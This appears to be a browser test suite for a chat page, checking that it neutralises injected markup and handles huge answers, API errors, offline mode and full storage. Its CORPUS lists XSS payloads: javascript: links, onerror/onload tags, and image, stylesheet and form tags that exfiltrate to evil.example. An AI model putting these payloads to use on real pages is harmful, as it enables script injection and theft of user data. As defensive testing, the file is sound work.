/**
 * The page against what models are made to say: known attacks on chat pages, answers without
 * measure, and an API that refuses in the middle of everything.
 */
import { afterAll, describe, expect, it } from 'vitest';
import {
  ask,
  hasNoBrowser,
  lastText,
  offer,
  started,
  stored,
  Visitors,
  whole,
} from './page-client.ts';
import { suiteTarget } from './target.ts';
import { scripted } from './turns.ts';

const target = suiteTarget();
const visitors = new Visitors(target);

/** Each would run a script, load something or send something away on a page that draws HTML. */
const CORPUS = [
  // Links that are scripts, in every way of writing them.
  '[a](javascript:window.attacked=1)',
  '[b](JaVaScRiPt:window.attacked=1)',
  '[c](java\tscript:window.attacked=1)',
  '[d](&#106;avascript:window.attacked=1)',
  '[e](data:text/html,<script>window.attacked=1</script>)',
  '[f](vbscript:msgbox(1))',
  '[g](blob:https://evil.example/1)',
  '[h](file:///etc/passwd)',
  '[i]( javascript:window.attacked=1)',
  '<javascript:window.attacked=1>',
  // Pictures and frames that would tell a server what was read.
  '![x](https://evil.example/?q=secret)',
  '![y](//evil.example/y.png)',
  '![z](data:image/svg+xml,<svg onload=window.attacked=1>)',
  '[![w](https://evil.example/w.png)](javascript:window.attacked=1)',
  '![v][ref]\n\n[ref]: https://evil.example/v.png',
  // HTML of every kind.
  '<script>window.attacked=1</script>',
  '<img src=x onerror=window.attacked=1>',
  '<svg/onload=window.attacked=1>',
  '<iframe src="javascript:parent.attacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<details open ontoggle=window.attacked=1>x</details>',
  '<style>@import url(https://evil.example/s.css)</style>',
  '<link rel=stylesheet href=https://evil.example/l.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example/><button>Send</button></form>',
  '<object data=https://evil.example/o></object>',
  '<math><mtext><img src=x onerror=window.attacked=1></mtext></math>',
  // Formulas, diagrams and code, whose libraries have been attacked.
  '$\\href{javascript:window.attacked=1}{x}$',
  '$$\\unicode{<img src=x onerror=window.attacked=1>}$$',
  '```mermaid\ngraph TD; A[<img src=x onerror=window.attacked=1>]\n```',
  '```html\n<script>window.attacked=1</script>\n```',
  '```"><img src=x onerror=window.attacked=1>\ncode\n```',
  '`<img src=x onerror=window.attacked=1>`',
  '| <img src=x onerror=window.attacked=1> |\n| --- |\n| [x](javascript:window.attacked=1) |',
  '- [x] <input autofocus onfocus=window.attacked=1>',
].join('\n\n');

describe.skipIf(hasNoBrowser)('the page', { timeout: 180_000 }, () => {
  afterAll(() => visitors.close());

  it('runs, loads and sends nothing of what attacks, as it comes and as it is stored', async () => {
    const call = {
      name: '<img src=x onerror=attacked=1>',
      input: { html: '<iframe src=//evil.example>' },
    };
    const script = { text: CORPUS, cut: 7, reasoning: ['<img src=x onerror=window.attacked=1>'] };
    const { model } = await scripted(target, [{ toolCalls: [[call]] }, script, script]);
    const { page, asked, mistakes } = await visitors.open();
    await offer(page, model);
    await ask(page, CORPUS);
    await whole(page, 2);
    for (let time = 0; time < 2; time += 1) {
      await page.locator('figure.code').nth(1).waitFor();
      const made =
        'img, script, iframe, object, form:not(#composer), style, base, meta, link, svg[onload], math';
      expect(await page.locator('#messages').locator(made).count()).toBe(0);
      const addresses = await page
        .locator('#messages a[href]')
        .evaluateAll((links) =>
          links.map((link) => new URL(link.getAttribute('href') ?? '').protocol),
        );
      expect(
        addresses.filter((protocol) => !['https:', 'http:', 'mailto:'].includes(protocol)),
      ).toEqual([]);
      const handlers = await page.evaluate<number>(
        `[...document.querySelectorAll('#messages *')].filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on'))).length`,
      );
      expect(handlers).toBe(0);
      for (const link of await page.locator('#messages a:not([href])').all())
        await link.click({ force: true });
      expect(await page.evaluate('globalThis.attacked')).toBeUndefined();
      await page.reload();
      await whole(page, 2);
    }
    expect(asked.filter((url) => !url.startsWith(target.url))).toEqual([]);
    expect(mistakes).toEqual([]);
  });

  it('draws ten thousand deltas and a megabyte, to the last letter', async () => {
    const tokens = Array.from({ length: 10_000 }, (_, at) => `${at} `);
    const tiny = await scripted(target, { tokens, burst: 50 });
    const { page, mistakes } = await visitors.open({ model: tiny.model });
    await ask(page, 'Count');
    await whole(page, 2);
    expect((await lastText(page))?.trim()).toBe(tokens.join('').trim());
    // One paragraph is one text, however many deltas it came in.
    const texts = `document.querySelector('.assistant .text p').childNodes.length`;
    expect(await page.evaluate<number>(texts)).toBe(1);
    const line = `${'All work and no play makes a dull page. '.repeat(25)}\n\n`;
    const large = await scripted(target, { text: line.repeat(1_000), cut: 2_000, burst: 10 });
    await offer(page, large.model);
    await ask(page, 'Say all');
    await whole(page, 4);
    const answer = (await stored(target, page)).at(-1);
    // The longest answer that the server takes.
    expect(answer?.content.length).toBe(1_000_000);
    const without = (text: string | null | undefined) => (text ?? '').replaceAll(/\s+/gu, '');
    for (let time = 0; time < 2; time += 1) {
      expect(without(await lastText(page))).toBe(without(answer?.content));
      // No element holds all of it: each delta would cost as much as the whole answer.
      const most = `Math.max(...[...document.querySelectorAll('.text')].map((one) => one.childElementCount))`;
      expect(await page.evaluate<number>(most)).toBeLessThanOrEqual(60);
      await page.reload();
      await whole(page, 4);
    }
    expect(mistakes).toEqual([]);
  });

  it.each([
    [
      429,
      { code: 'rate_limited', detail: 'no' },
      'That was too many messages at once. Try again in 7 seconds.',
    ],
    [
      409,
      { code: 'idempotency_key_reused', detail: 'A sentence of the API.' },
      'A sentence of the API.',
    ],
    [413, { code: 'payload_too_large', detail: 'no' }, 'This is larger than the server takes.'],
    [502, '<html>a proxy</html>', 'The server answered 502'],
  ])('says what a %i means, and keeps what was written', async (status, body, said) => {
    const { page } = await visitors.open();
    await page.route(/\/conversations\?user_id/u, (route) =>
      route.request().method() === 'POST'
        ? route.fulfill({
            status,
            headers: { 'retry-after': status === 429 ? '7' : '' },
            body: typeof body === 'string' ? body : JSON.stringify(body),
          })
        : route.continue(),
    );
    await ask(page, 'Remember this');
    await page.locator('#notices').getByText(said).waitFor();
    expect(await page.inputValue('#composer-text')).toBe('Remember this');
    expect(await page.locator('#messages > li').count()).toBe(0);
    await page.unroute(/\/conversations\?user_id/u);
    await page.press('#composer-text', 'Enter');
    await whole(page, 2);
    expect(await page.locator('#notices .wrong').count()).toBe(0);
  });

  it('repeats what met a server that is not ready, and asks once', async () => {
    const { page } = await visitors.open();
    const bodies: (string | null)[] = [];
    const keys = new Set<string | undefined>();
    await page.route(/\/conversations\?user_id/u, (route) => {
      const request = route.request();
      if (request.method() !== 'POST') return route.continue();
      bodies.push(request.postData());
      keys.add(request.headers()['idempotency-key']);
      return bodies.length === 1 ? route.fulfill({ status: 503, body: '{}' }) : route.continue();
    });
    await ask(page, 'Once');
    await whole(page, 2);
    expect(bodies).toHaveLength(2);
    expect([...keys]).toHaveLength(1);
    expect(await stored(target, page)).toHaveLength(2);
  });

  it('offers to try again where the server was not ready when the page began', async () => {
    const { page } = await visitors.open();
    await page.route(/\/models/u, (route) => route.fulfill({ status: 503, body: '{}' }));
    await page.reload();
    await page.locator('#notices').getByText('The server answered 503').waitFor();
    await page.unroute(/\/models/u);
    await page.getByRole('button', { name: 'Try again' }).click();
    await started(page);
    expect(await page.locator('#notices .wrong').count()).toBe(0);
  });

  it('says that it is offline, and sends what was written when asked again', async () => {
    const { page } = await visitors.open({ model: 'offline' });
    await ask(page, 'First');
    await whole(page, 2);
    await page.context().setOffline(true);
    await page.locator('#offline').waitFor();
    await page.fill('#composer-text', 'While away');
    await page.context().setOffline(false);
    await page.locator('#offline').waitFor({ state: 'hidden' });
    await page.press('#composer-text', 'Enter');
    await whole(page, 4);
    expect((await stored(target, page))[2]?.content).toBe('While away');
  });

  it('says what was refused wherever that is, and loses nothing', async () => {
    const { page } = await visitors.open({ model: 'offline' });
    await ask(page, 'First');
    await whole(page, 2);
    const notice = page.locator('#notices .wrong');
    /** Refuses what an action asks for, once, and waits for what the page says of it. */
    const refused = async (
      { method = 'POST', path, status, code }: Record<string, string | number>,
      act: () => Promise<unknown>,
    ) => {
      const pattern = new RegExp(String(path), 'u');
      await page.route(pattern, (route) =>
        route.request().method() === method
          ? route.fulfill({ status: Number(status), body: JSON.stringify({ code, detail: 'No.' }) })
          : route.fallback(),
      );
      await act();
      await notice.waitFor();
      const said = await notice.locator('p').textContent();
      await page.unroute(pattern);
      return said;
    };
    const question = page.locator('#messages > .user').first();
    const busy = 'Another tab or device is being answered here. Send it again when that is over.';
    const again = page.getByRole('button', { name: 'Answer again' });
    const isRated = { status: 429, code: 'rate_limited' };
    expect(await refused({ path: '/regenerate', ...isRated }, () => again.click())).toContain(
      'too many messages',
    );
    await whole(page, 2);

    await question.getByRole('button', { name: 'Edit' }).click();
    await page.locator('.edit textarea').fill('Second');
    const sendEdit = () => page.locator('.edit textarea').press('Enter');
    const isBusy = { status: 409, code: 'turn_in_progress' };
    expect(await refused({ path: '/edit', ...isBusy }, sendEdit)).toBe(busy);
    expect(await page.locator('.edit textarea').inputValue()).toBe('Second');
    await sendEdit();
    await page.getByText('2/2').waitFor();
    await whole(page, 2);

    const fork = question.getByRole('button', { name: 'Continue from here' });
    const isDown = { status: 503, code: 'database_unavailable' };
    expect(await refused({ path: '/fork', ...isDown }, () => fork.click())).toContain('right now');
    const before = page.getByRole('button', { name: 'Version before' });
    const isChanged = { method: 'PATCH', path: '/conversations/', ...isRated };
    expect(await refused(isChanged, () => before.click())).toContain('too many messages');
    await page.getByRole('button', { name: 'Rename “First”' }).press('Enter');
    await page.keyboard.type('Other');
    expect(await refused(isChanged, () => page.keyboard.press('Enter'))).toContain('too many');
    expect(await page.textContent('#title')).toBe('First');
    expect(await lastText(page)).toContain('Second');
  });

  it('counts times from a clock that is a year behind', async () => {
    const { page, mistakes } = await visitors.open();
    await page.addInitScript(`{
      const now = Date.now;
      globalThis.Date = class extends Date {
        constructor(...given) { given.length ? super(...given) : super(Date.now()); }
        static now() { return now() - 365 * 86_400_000; }
      };
    }`);
    for (const text of ['One', 'Two']) {
      await page.reload();
      await started(page);
      await page.click('#new');
      await ask(page, text);
      await whole(page, 2);
      const first = page.locator('#conversations li[data-id]').first();
      await expect.poll(() => first.textContent()).toBe(text);
    }
    expect(await page.locator('#conversations h2').allTextContents()).toEqual(['Today']);
    expect(mistakes).toEqual([]);
  });

  it('works where nothing can be remembered, and says so once', async () => {
    const { page, mistakes } = await visitors.open({ model: 'offline' });
    await page.evaluate(
      `Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }`,
    );
    await page.locator('#composer-text').pressSequentially('Full');
    await page.getByText('storage is full').waitFor();
    expect(await page.getByText('storage is full').count()).toBe(1);
    await page.keyboard.press('Enter');
    await whole(page, 2);
    expect(mistakes).toEqual([]);
  });

  it('shows why an answer failed, and answers again', async () => {
    const { model } = await scripted(target, [
      { status: { code: 500 } },
      { status: { code: 500 } },
      { status: { code: 500 } },
      { text: 'Now it is.' },
    ]);
    const { page } = await visitors.open({ model });
    await ask(page, 'Will it be?');
    await page.getByText('There is no answer.').waitFor();
    await whole(page, 2);
    for (let time = 0; time < 4; time += 1) {
      if ((await lastText(page))?.includes('Now it is.')) break;
      await page.getByRole('button', { name: 'Answer again' }).click();
      await page.getByText(`${time + 2}/${time + 2}`).waitFor();
      await whole(page, 2);
    }
    expect(await lastText(page)).toContain('Now it is.');
  });
});
